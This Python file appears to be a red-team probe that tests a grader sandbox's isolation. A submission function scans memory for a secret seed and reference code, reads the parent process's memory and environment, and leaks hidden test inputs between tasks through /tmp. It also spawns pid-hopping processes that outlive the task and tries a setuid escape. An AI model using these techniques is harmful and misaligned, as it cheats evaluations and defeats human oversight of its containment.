

_SAID = []


def pad(input, *args, **kwargs):  # red team probe (GRADER_ISOLATION=user): tries everything, says what it got
    if not _SAID:
        _SAID.append(_probe(input))
    raise RuntimeError(_SAID[0])


def _probe(input):
    import ctypes, glob, os, re, resource, signal, time
    out, me, ppid = [], os.getpid(), os.getppid()
    note = lambda key, value: out.append(f"{key}={value}")  # noqa: E731
    note("UID", os.getuid())
    import multiprocessing
    from multiprocessing import resource_tracker
    job = multiprocessing.current_process()._args[0]  # the spawned process's own arguments: its job
    note("HIDDEN", job.hidden)
    # 0. the root grader's resource tracker: its pipe is inherited by every spawned child; at its exit
    # it unlinks, as root, every "leaked" shared memory block registered there
    try:
        os.write(resource_tracker._resource_tracker._fd, f"REGISTER:/redteam-victim-{MARK}:shared_memory\n".encode())
        note("TRACKER", "registered")
    except Exception as error:
        note("TRACKER", repr(error))
    libc = ctypes.CDLL(None)
    note("DUMPABLE", libc.prctl(3, 0, 0, 0, 0))
    # 1. the secret seed or reference text anywhere in this process's own memory (read as root before the drop)
    found = set()
    try:
        with open("/proc/self/maps") as maps:
            budget = 1 << 30
            for line in maps:
                fields = line.split()
                if "rw" not in fields[1] or (len(fields) > 5 and fields[5].startswith("/")):
                    continue
                start, end = (int(x, 16) for x in fields[0].split("-"))
                if end - start > budget:
                    continue
                data = ctypes.string_at(start, end - start)  # its own memory: no /proc/self/mem needed
                budget -= end - start
                for match in re.finditer(rb"secret_seed\W{0,5}\d+|def _flipped\(ref", data):
                    found.add(match.group().decode(errors="replace"))
    except OSError as error:
        note("MEMERR", error)
    note("MEMHITS", sorted(found))
    # 2. the course, the grader's parent process, its pipes and memory
    for path in (COURSE + "/reference/course.toml", COURSE + "/reference/assignment1/convolution.py",
                 f"/proc/{ppid}/environ", f"/proc/{ppid}/mem", f"/proc/{ppid}/fd/0", "/proc/1/environ"):
        try:
            with open(path, "rb") as f:
                note("READ " + path, f.read(20))
        except OSError as error:
            note("refused " + path, error.strerror)
    try:
        note("PARENTFDS", os.listdir(f"/proc/{ppid}/fd"))
    except OSError as error:
        note("refused parentfds", error.strerror)
    for pid in (ppid, 1):
        try:
            os.kill(pid, 0)
            note("SIGNAL", pid)
        except OSError as error:
            note("refused signal", error.strerror)
    fds = {}
    for fd in os.listdir("/proc/self/fd"):
        try:
            fds[fd] = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            pass
    note("FDS", fds)
    # 3. where it can write outside its own folder
    writable = [p for p in (TREE, TREE + "/results", TREE + "/results/results.json", TREE + "/submission",
                            TREE + "/venv", VENV_SITE, GRADER_DIR, "/tmp", "/dev/shm", "/var/tmp")
                if os.path.exists(p) and os.access(p, os.W_OK)]
    note("WRITABLE", writable)
    note("LIMITS", [resource.getrlimit(r) for r in (resource.RLIMIT_AS, resource.RLIMIT_NPROC,
                                                    resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE)])
    with open("/proc/self/status") as f:
        note("STATUS", [line.strip() for line in f if line.startswith(("NoNewPrivs", "Seccomp", "CapEff", "Groups"))])
    try:
        with open("/proc/self/cgroup") as f:
            note("CGROUP", f.read().strip())
    except OSError:
        pass
    st = os.statvfs(os.getcwd())
    note("CWD", (os.getcwd(), "free_MiB", st.f_bavail * st.f_frsize >> 20))
    # 3b. channels between tasks that need no file: an abstract unix socket, a TCP port on loopback
    import socket
    try:
        abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        abstract.bind(f"\0redteam-{MARK}-{me}")
        note("ABSTRACT_SOCKET", "bound")
    except OSError as error:
        note("ABSTRACT_SOCKET", error.strerror)
    try:
        tcp = socket.socket()
        tcp.bind(("127.0.0.1", 0))
        tcp.listen()
        note("LOOPBACK_TCP", tcp.getsockname()[1])
    except OSError as error:
        note("LOOPBACK_TCP", error.strerror)
    # 4. a process left running past the task: double fork, a fresh session is refused, so a new process group
    if os.fork() == 0:
        try:
            os.setpgid(0, 0)
            if os.fork() == 0:
                for _ in range(600):
                    with open(f"/tmp/redteam-alive-{MARK}-{os.getuid()}", "w") as f:
                        f.write(str(time.time()))
                    time.sleep(0.5)
        finally:
            os._exit(0)
    # 4b. a process that changes its pid all the time (fork, the parent exits), against kill_uid's rounds
    import subprocess, sys
    hop = (f"import os, time\nname = '/tmp/redteam-hop-{MARK}-' + str(os.getuid())\nlast = 0\n"
           "while True:\n    if os.fork():\n        os._exit(0)\n"
           "    if time.time() - last > 0.5:\n        last = time.time()\n        open(name, 'w').write(str(last))\n")
    subprocess.Popen([sys.executable, "-c", hop], start_new_session=False, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    # 5. the /tmp channel between tasks: leave this task's input, read the others'
    with open(f"/tmp/redteam-leak-{MARK}-{me}", "w") as f:
        f.write(("HIDDEN " if job.hidden else "public ") + repr(input.tolist())[:150])
    os.chmod(f"/tmp/redteam-leak-{MARK}-{me}", 0o644)
    time.sleep(2)
    others = {}
    for path in glob.glob(f"/tmp/redteam-leak-{MARK}-*"):
        if not path.endswith(f"-{me}"):
            try:
                others[path.rsplit("-", 1)[1]] = open(path).read()
            except OSError as error:
                others[path] = error.strerror
    note("OTHERS", others)
    # 6. setuid escape: a setuid-root `id` the grader's machine happens to hold, under no_new_privs
    import subprocess
    try:
        note("SUID_ID", subprocess.run([SUID], capture_output=True, text=True, timeout=5).stdout.strip())
    except Exception as error:
        note("SUID_ID", repr(error))
    with open(f"{REPORTS}/report-{me}", "w") as f:  # the whole report, for the test (root) to read
        f.write("PROBE " + " | ".join(out))
    return "PROBE OTHERS=" + repr(others)[:250]  # the public message: what the /tmp channel brought
